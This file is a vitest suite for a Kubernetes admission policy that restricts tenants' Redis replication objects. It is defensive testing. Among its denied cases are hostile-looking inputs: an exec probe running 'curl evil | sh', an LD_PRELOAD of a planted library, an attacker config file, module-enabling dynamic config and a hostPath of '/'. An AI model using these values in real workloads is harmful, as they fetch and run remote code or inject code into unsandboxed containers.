import { describe, expect, it } from "vitest";
import { renderRedisPolicy } from "../../../components/guardrails/admission-policies";
import { databaseAdmission } from "../../../components/guardrails/database-admission";
import { renderRedisReplication } from "../../../components/project/redis";
import { projectContext } from "../../../components/project/common";
import { restoredRedisProject } from "../../../tools/offline/backup-drill";
import { admit } from "../../../tools/offline/admission";
import { policyPackConfigFile, stackPackConfig } from "../../../tools/offline/policy-config";
import { readStackConfig } from "../../../tools/offline/stack-files";
import { validateObject } from "../../helpers/k8s-schema";
import { messagesOf, planned, tenantNamespace } from "../../helpers/policy-fixtures";
import { ROOT } from "../../helpers/synth";
import { project, stackPlatformConfig } from "../project/fixtures";
import * as fs from "node:fs";
import * as path from "node:path";
import * as yaml from "js-yaml";
import { REDIS_ALLOWED_FIELDS, REDIS_REFUSED_FIELDS, REDIS_REPLICATION_TYPE } from "../../../policy/rules/tenancy/redis-replication";

/**
 * The admission twin of `tenancy-redis-replication` (platform-tenant-redis): the API server model
 * (tools/offline/admission.ts) must deny exactly the objects the pack reports and admit the ones the program
 * renders, with the same stack settings on both sides. Expected outcomes are written here per fixture.
 */

const config = stackPlatformConfig("fsn1");
const pair = renderRedisPolicy({ allowedRegistries: config.allowedRegistries, ...databaseAdmission(config) });
const pack = stackPackConfig(readStackConfig(ROOT, "fsn1"));
const shop = project({ name: "shop", redis: { replicas: 3 } });
const group = renderRedisReplication(projectContext(shop, config));
type Spec = Record<string, any>;
const base = group.spec as Spec;
const spec = (changes: Spec): Spec => ({ ...base, ...changes });
const kubernetesConfig = (changes: Spec): Spec => spec({ kubernetesConfig: { ...base.kubernetesConfig, ...changes } });
const storage = (changes: Spec): Spec => spec({ storage: { ...base.storage, ...changes } });

function decide(kind: string, objectSpec: Spec, annotations?: Record<string, string>): { admission: "admit" | "deny"; pack: "admit" | "deny"; messages: string[] } {
    const object = { ...group, kind, metadata: { ...group.metadata, ...(annotations ? { annotations } : {}) }, spec: objectSpec };
    const decision = admit(pair.policy, pair.binding, { object, namespaceObject: tenantNamespace("shop").inputs, operation: "CREATE" });
    const reported = messagesOf("tenancy-redis-replication", [planned(`kubernetes:redis.redis.opstreelabs.in/v1beta2:${kind}`, "redis", object)], pack);
    return { admission: decision.allowed ? "admit" : "deny", pack: reported.length === 0 ? "admit" : "deny", messages: decision.messages };
}

const CASES: Array<{ title: string; kind?: string; spec: Spec; annotations?: Record<string, string>; expected: "admit" | "deny" }> = [
    { title: "the group the program renders (Sentinel failover)", spec: base, expected: "admit" },
    { title: "a single member without Sentinel", spec: renderRedisReplication(projectContext(project({ name: "shop", redis: {} }), config)).spec as Spec, expected: "admit" },
    { title: "its restore into the next generation", spec: renderRedisReplication(projectContext(restoredRedisProject(shop), config)).spec as Spec, expected: "admit" },
    { title: "a standalone Redis", kind: "Redis", spec: base, expected: "deny" },
    { title: "a Redis Cluster", kind: "RedisCluster", spec: base, expected: "deny" },
    { title: "no password", spec: kubernetesConfig({ redisSecret: undefined }), expected: "deny" },
    { title: "another Redis image", spec: kubernetesConfig({ image: "quay.io/opstree/redis:v7.0.15" }), expected: "deny" },
    { title: "another Sentinel image", spec: spec({ sentinel: { ...base.sentinel, image: "docker.io/library/redis:7.4.2" } }), expected: "deny" },
    { title: "another exporter image", spec: spec({ redisExporter: { ...base.redisExporter, image: "docker.io/oliver006/redis_exporter:v1.50.0" } }), expected: "deny" },
    { title: "a LoadBalancer Service", spec: kubernetesConfig({ service: { serviceType: "LoadBalancer" } }), expected: "deny" },
    { title: "a NodePort additional Service", spec: kubernetesConfig({ service: { additional: { type: "NodePort" } } }), expected: "deny" },
    // The platform renders no Service settings; even ClusterIP ones carry annotations of the tenant's onto the operator's Services.
    { title: "ClusterIP Services spelled out", spec: kubernetesConfig({ service: { serviceType: "ClusterIP", headless: { type: "ClusterIP" } } }), expected: "deny" },
    { title: "no persistence", spec: spec({ storage: undefined }), expected: "deny" },
    { title: "a class no backup covers", spec: storage({ volumeClaimTemplate: { spec: { ...base.storage.volumeClaimTemplate.spec, storageClassName: "local-path" } } }), expected: "deny" },
    { title: "volumes deleted with the object", spec: storage({ keepAfterDelete: false }), expected: "deny" },
    { title: "an extra hostPath volume", spec: storage({ volumeMount: { volume: [{ name: "host", hostPath: { path: "/" } }] } }), expected: "deny" },
    { title: "a sidecar", spec: spec({ sidecars: [{ name: "x", image: "docker.io/library/busybox:1.37" }] }), expected: "deny" },
    { title: "an init container", spec: spec({ initContainer: { enabled: true, image: "docker.io/library/busybox:1.37" } }), expected: "deny" },
    { title: "a ServiceAccount of its own", spec: spec({ serviceAccountName: "database" }), expected: "deny" },
    { title: "a host port", spec: spec({ hostPort: 6379 }), expected: "deny" },
    { title: "more members than the limit", spec: spec({ clusterSize: 4 }), expected: "deny" },
    // The operator's pods run outside gVisor (review 19, findings 2 and 9): nothing that runs or configures code.
    { title: "an exec liveness probe (the tenant's command in the unsandboxed Redis container)", spec: spec({ livenessProbe: { exec: { command: ["sh", "-c", "curl evil | sh"] } } }), expected: "deny" },
    { title: "an exec readiness probe", spec: spec({ readinessProbe: { exec: { command: ["sh", "-c", "id"] } } }), expected: "deny" },
    { title: "an HTTP liveness probe (no probe of the tenant's at all)", spec: spec({ livenessProbe: { tcpSocket: { port: 6379 } } }), expected: "deny" },
    { title: "environment for the Redis container", spec: spec({ env: [{ name: "EXTERNAL_CONFIG_FILE", value: "/data/evil.conf" }] }), expected: "deny" },
    { title: "environment for the exporter", spec: spec({ redisExporter: { ...base.redisExporter, env: [{ name: "LD_PRELOAD", value: "/data/x.so" }] } }), expected: "deny" },
    { title: "an additional Redis config (a ConfigMap with loadmodule)", spec: spec({ redisConfig: { additionalRedisConfig: "evil-redis-conf" } }), expected: "deny" },
    { title: "dynamic Redis config (CONFIG SET by the operator)", spec: spec({ redisConfig: { dynamicConfig: ["enable-module-command yes", "dir /tmp"] } }), expected: "deny" },
    { title: "a memory percentage (any redisConfig)", spec: spec({ redisConfig: { maxMemoryPercentOfLimit: 80 } }), expected: "deny" },
    { title: "additional Sentinel config", spec: spec({ sentinel: { ...base.sentinel, additionalSentinelConfig: "evil-sentinel-conf" } }), expected: "deny" },
    { title: "Sentinel settings the platform does not render", spec: spec({ sentinel: { ...base.sentinel, downAfterMilliseconds: "1" } }), expected: "deny" },
    { title: "a Sentinel ServiceAccount", spec: spec({ sentinel: { ...base.sentinel, serviceAccountName: "deployer" } }), expected: "deny" },
    { title: "TLS from a Secret of the tenant's", spec: spec({ TLS: { secret: { secretName: "anything" } } }), expected: "deny" },
    { title: "a priority class", spec: spec({ priorityClassName: "system-cluster-critical" }), expected: "deny" },
    { title: "pull credentials", spec: kubernetesConfig({ imagePullSecrets: [{ name: "regcred" }] }), expected: "deny" },
    { title: "a claim template with a selector", spec: storage({ volumeClaimTemplate: { spec: { ...base.storage.volumeClaimTemplate.spec, selector: { matchLabels: { a: "b" } } } } }), expected: "deny" },
    { title: "claims deleted with the StatefulSet (review 19, 8a)", spec: kubernetesConfig({ persistentVolumeClaimRetentionPolicy: { whenDeleted: "Delete", whenScaled: "Retain" } }), expected: "deny" },
    { title: "no claim retention policy", spec: kubernetesConfig({ persistentVolumeClaimRetentionPolicy: undefined }), expected: "deny" },
    // Placement pinned to the rendered one (review 19b, 8c): the unsandboxed pods stay off platform nodes.
    // Untrusted projects run no Lua in the unsandboxed Redis (review 19b, 8d): the platform's ACL file without @scripting.
    { title: "an untrusted project's group without the ACL", spec: spec({ acl: undefined }), expected: "deny" },
    { title: "the ACL from a Secret of the tenant's", spec: spec({ acl: { secret: { secretName: "my-acl" } } }), expected: "deny" },
    // Review 19d, major 3: the default user's password and the ACL file are the platform's Secret, never the app's or one of the tenant's.
    { title: "the ACL from the app's redis-credentials (the tenant's pods read it)", spec: spec({ acl: { secret: { secretName: "redis-credentials" } } }), expected: "deny" },
    { title: "the default password from the app's redis-credentials", spec: kubernetesConfig({ redisSecret: { name: "redis-credentials", key: "REDIS_PASSWORD" } }), expected: "deny" },
    { title: "the default password and the ACL from one Secret of the tenant's", spec: spec({ kubernetesConfig: { ...base.kubernetesConfig, redisSecret: { name: "mine", key: "p" } }, acl: { secret: { secretName: "mine" } } }), expected: "deny" },
    { title: "the default password from another key of the platform's Secret (the ACL file)", spec: kubernetesConfig({ redisSecret: { name: "redis-internal", key: "user.acl" } }), expected: "deny" },
    { title: "the default password from another platform Secret (the backup keys)", spec: kubernetesConfig({ redisSecret: { name: "database-backup-s3", key: "ACCESS_KEY_ID" } }), expected: "deny" },
    // The exporter logs in as its own user (its /scrape endpoint dials any target with its credentials): redisExporter.env exactly the platform's.
    { title: "an exporter without its own user (default's password, from the operator's REDIS_PASSWORD)", spec: spec({ redisExporter: { ...base.redisExporter, env: undefined } }), expected: "deny" },
    { title: "an exporter logged in as default", spec: spec({ redisExporter: { ...base.redisExporter, env: [{ name: "REDIS_USER", value: "default" }, { name: "REDIS_PASSWORD", valueFrom: { secretKeyRef: { name: "redis-internal", key: "REDIS_PASSWORD" } } }] } }), expected: "deny" },
    { title: "an exporter told to read keys (check-keys) beside its own user", spec: spec({ redisExporter: { ...base.redisExporter, env: [...base.redisExporter.env, { name: "REDIS_EXPORTER_CHECK_KEYS", value: "session:*" }] } }), expected: "deny" },
    { title: "the exporter's password key marked optional", spec: spec({ redisExporter: { ...base.redisExporter, env: [base.redisExporter.env[0], { name: "REDIS_PASSWORD", valueFrom: { secretKeyRef: { ...base.redisExporter.env[1].valueFrom.secretKeyRef, optional: true } } }] } }), expected: "deny" },
    { title: "the exporter's two entries in the other order (harmless after the operator's stable sort, but the pin is the exact list)", spec: spec({ redisExporter: { ...base.redisExporter, env: [base.redisExporter.env[1], base.redisExporter.env[0]] } }), expected: "deny" },
    // The operator's annotations (redis-operator v0.26.0 skip_reconcile.go, constants.go).
    { title: "skip-reconcile (the operator stops applying the platform's object)", spec: base, annotations: { "redisreplication.opstreelabs.in/skip-reconcile": "true" }, expected: "deny" },
    { title: "recreate-statefulset", spec: base, annotations: { "redis.opstreelabs.in/recreate-statefulset": "true", "redis.opstreelabs.in/recreate-statefulset-strategy": "orphan" }, expected: "deny" },
    { title: "the operator's instance mark, in capitals", spec: base, annotations: { "Redis.OpsTreeLabs.Instance": "other" }, expected: "deny" },
    { title: "an annotation of another domain", spec: base, annotations: { "example.com/opstreelabs.in": "x", "argocd.argoproj.io/tracking-id": "shop:redis" }, expected: "admit" },
    { title: "the ACL from a claim", spec: spec({ acl: { persistentVolumeClaim: "acl-claim" } }), expected: "deny" },
    { title: "the ACL Secret marked optional", spec: spec({ acl: { secret: { secretName: base.kubernetesConfig.redisSecret.name, optional: true } } }), expected: "deny" },
    { title: "a toleration of every taint", spec: spec({ tolerations: [{ operator: "Exists" }] }), expected: "deny" },
    { title: "the build pool's toleration beside the run pool's", spec: spec({ tolerations: [...base.tolerations, { key: "pool", operator: "Equal", value: "build", effect: "NoSchedule" }] }), expected: "deny" },
    { title: "the run pool's toleration with another effect", spec: spec({ tolerations: [{ ...base.tolerations[0], effect: "NoExecute" }] }), expected: "deny" },
    { title: "the servers' taint tolerated by the Sentinels", spec: spec({ sentinel: { ...base.sentinel, tolerations: [{ key: "node-role.kubernetes.io/control-plane", operator: "Exists" }] } }), expected: "deny" },
    { title: "no toleration at all (fewer nodes, never other ones)", spec: spec({ tolerations: undefined }), expected: "admit" },
    { title: "the build pool's nodes by selector", spec: spec({ nodeSelector: { "platform/pool": "build" } }), expected: "deny" },
    { title: "a node picked by name beside the pool", spec: spec({ nodeSelector: { ...base.nodeSelector, "kubernetes.io/hostname": "platform-server-1" } }), expected: "deny" },
    { title: "no nodeSelector (any untainted node)", spec: spec({ nodeSelector: undefined }), expected: "deny" },
    { title: "node affinity of its own", spec: spec({ affinity: { ...base.affinity, nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ matchExpressions: [{ key: "platform/pool", operator: "In", values: ["build"] }] }] } } } }), expected: "deny" },
    { title: "pod affinity to the platform's pods (Sentinels)", spec: spec({ sentinel: { ...base.sentinel, affinity: { podAffinity: { requiredDuringSchedulingIgnoredDuringExecution: [{ labelSelector: { matchLabels: { app: "x" } }, topologyKey: "kubernetes.io/hostname" }] } } } }), expected: "deny" },
];

describe("platform-tenant-redis (admission twin of tenancy-redis-replication)", () => {
    it("is a schema-valid ValidatingAdmissionPolicy bound to tenant namespaces, holding the stack's limit and the pinned images", () => {
        expect(validateObject(pair.policy).status).toBe("valid");
        expect(validateObject(pair.binding).status).toBe("valid");
        expect(JSON.stringify(pair.policy.spec)).toContain("object.spec.clusterSize <= 3");
        expect(JSON.stringify(pair.policy.spec)).toContain(base.kubernetesConfig.image);
    });

    it.each(CASES)("$title: $expected by admission and by the pack", ({ kind, spec: objectSpec, annotations, expected }) => {
        const outcome = decide(kind ?? "RedisReplication", objectSpec, annotations);
        expect(outcome.admission, outcome.messages.join("; ")).toBe(expected);
        expect(outcome.pack).toBe(expected);
    });

    it("allows exactly the fields the program renders (with and without Sentinel), nothing more", () => {
        const single = renderRedisReplication(projectContext(project({ name: "shop", redis: {} }), config)).spec as Spec;
        const rendered = new Map<string, Set<string>>();
        for (const group of [base, single]) {
            for (const path of Object.keys(REDIS_ALLOWED_FIELDS)) {
                const value = path === "" ? group : path.split(".").reduce((v: any, k) => v?.[k], group);
                for (const key of Object.keys(value ?? {})) {
                    rendered.set(path, new Set([...(rendered.get(path) ?? []), key]));
                }
            }
        }
        for (const [path, allowed] of Object.entries(REDIS_ALLOWED_FIELDS)) {
            expect([...(rendered.get(path) ?? [])].sort(), path || "spec").toEqual([...allowed].sort());
        }
    });

    it("has audited every field of the pinned v0.26.0 CRD at each level it allows: allowed, or refused with a reason", () => {
        const crd = yaml.load(fs.readFileSync(path.join(ROOT, "charts/redis-operator/crd-redisreplications.yaml"), "utf8")) as any;
        const schema = crd.spec.versions.find((v: any) => v.name === "v1beta2").schema.openAPIV3Schema.properties.spec;
        for (const [level, allowed] of Object.entries(REDIS_ALLOWED_FIELDS)) {
            const node = level === "" ? schema : level.split(".").reduce((n: any, k) => n.properties[k], schema);
            for (const field of Object.keys(node.properties ?? {})) {
                const full = level === "" ? field : `${level}.${field}`;
                const audited = allowed.includes(field) || full in REDIS_REFUSED_FIELDS;
                expect(audited, `${full} is neither allowed nor explained in REDIS_REFUSED_FIELDS`).toBe(true);
            }
        }
        // Fields that put code or configuration into the unsandboxed pods are refused with their reason.
        for (const field of ["livenessProbe", "readinessProbe", "env", "redisConfig", "initContainer", "sidecars", "storage.volumeMount", "sentinel.additionalSentinelConfig"]) {
            expect(REDIS_REFUSED_FIELDS[field], field).toBeDefined();
        }
        // redisExporter.env is allowed only as the platform's exact list (the cases above).
        expect(REDIS_REFUSED_FIELDS["redisExporter.env"]).toBeUndefined();
        expect(REDIS_ALLOWED_FIELDS.redisExporter).toContain("env");
    });

    it("holds a trusted project's group to the same ACL and password Secret: trust decides the file's @scripting, not whether there is one (review 19d, major 3)", () => {
        const trusted = { ...renderRedisReplication(projectContext(project({ name: "shop", redis: { replicas: 3 }, trust: "trusted" }), config)) } as Record<string, any>;
        expect((trusted.spec as Spec).acl).toEqual({ secret: { secretName: "redis-internal" } });
        const trustedNamespace = tenantNamespace("shop", "trusted").inputs;
        expect(admit(pair.policy, pair.binding, { object: trusted, namespaceObject: trustedNamespace, operation: "CREATE" }).allowed).toBe(true);
        expect(messagesOf("tenancy-redis-replication", [planned(REDIS_REPLICATION_TYPE, "redis", trusted)], pack)).toEqual([]);
        const withoutAcl = { ...trusted, spec: { ...trusted.spec, acl: undefined } };
        expect(admit(pair.policy, pair.binding, { object: withoutAcl, namespaceObject: trustedNamespace, operation: "CREATE" }).allowed).toBe(false);
        expect(messagesOf("tenancy-redis-replication", [planned(REDIS_REPLICATION_TYPE, "redis", withoutAcl)], pack)).not.toEqual([]);
    });

    it("gets a raised instance limit in the pack's config file too, as the database rule does", () => {
        expect(policyPackConfigFile({ maxDatabaseInstances: 5 })["tenancy-redis-replication"]).toEqual({ maxDatabaseInstances: 5 });
        expect(policyPackConfigFile({})["tenancy-redis-replication"]).toBeUndefined();
    });

    it("leaves objects of platform namespaces to their namespace's bindings", () => {
        const platformNamespace = { ...tenantNamespace("redis-operator").inputs, metadata: { name: "redis-operator", labels: {} } };
        const decision = admit(pair.policy, pair.binding, { object: { ...group, kind: "RedisCluster", metadata: { ...group.metadata, namespace: "redis-operator" } }, namespaceObject: platformNamespace, operation: "CREATE" });
        expect(decision.allowed).toBe(true);
    });
});
